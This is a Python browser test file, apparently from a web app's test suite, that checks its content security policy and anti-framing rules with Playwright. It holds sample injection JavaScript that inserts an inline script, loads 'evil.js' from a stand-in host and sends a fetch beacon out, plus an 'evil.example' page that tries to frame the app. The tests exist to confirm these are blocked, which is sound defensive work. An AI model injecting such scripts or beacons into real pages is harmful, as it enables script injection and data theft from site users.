"""The policy for contents in a real browser: no page needs what it forbids, and what it forbids does not
happen."""

from __future__ import annotations

import pytest

from tests.browser.conftest import POLICY
from tests.browser.steps import loaded, settled, visit
from tests.browser.test_app import PAGES, open_at

pytestmark = pytest.mark.deep

playwright = pytest.importorskip("playwright.sync_api", reason="browser tests need the package playwright")
expect = playwright.expect

INJECTED = """() => {
  const script = document.createElement('script');
  script.textContent = 'window.hacked = 1';
  document.body.append(script);
  const other = document.createElement('script');
  other.src = 'http://127.0.0.1:9/evil.js';
  document.body.append(other);
  return fetch('http://127.0.0.1:9/told').then(() => 'told', () => 'kept');
}"""
FRAME = """(address) => new Promise((done) => {
  const frame = document.createElement('iframe');
  frame.onload = () => done();
  frame.src = address;
  document.body.append(frame);
})"""


@pytest.mark.parametrize("name", PAGES)
def test_no_page_does_what_its_policy_forbids(page, app_address, name):
    """The fixture of the page reads the console."""
    open_at(page, app_address, name)


def test_the_page_that_forgets_begins_again(page, app_address):
    open_at(page, app_address, "data")
    page.goto(f"{app_address}/data?table=people-100&algorithm=MDAV&k=5")
    settled(page)
    page.get_by_text("Data kept by this server").click()
    forget = page.get_by_role("button", name="Delete my table from this server")
    expect(forget).to_be_visible()
    settled(page)  # the run that drew it has ended, too
    loaded(page)
    with page.expect_navigation(url=f"{app_address}/data"):
        forget.click()
    settled(page)


def test_what_is_put_into_a_page_neither_runs_nor_tells(browser, app_address):
    context = browser.new_context()
    page = context.new_page()
    said = []
    page.on("console", lambda message: said.append(message.text))
    open_at(page, app_address)
    visit(page, "Map")
    assert page.evaluate(INJECTED) == "kept"
    assert page.evaluate("window.hacked") is None
    assert len([text for text in said if POLICY in text]) >= 3
    context.close()


def test_no_other_site_frames_a_page(browser, app_address):
    context = browser.new_context()
    page = context.new_page()
    page.route(
        "http://evil.example/", lambda route: route.fulfill(body="<p>evil</p>", content_type="text/html")
    )
    for site, shown in (("http://evil.example/", False), (f"{app_address}/data", True)):
        page.goto(site)
        page.evaluate(FRAME, app_address)
        framed = [frame.url for frame in page.frames[1:]]
        assert any(url.startswith(app_address) for url in framed) == shown, framed
    context.close()
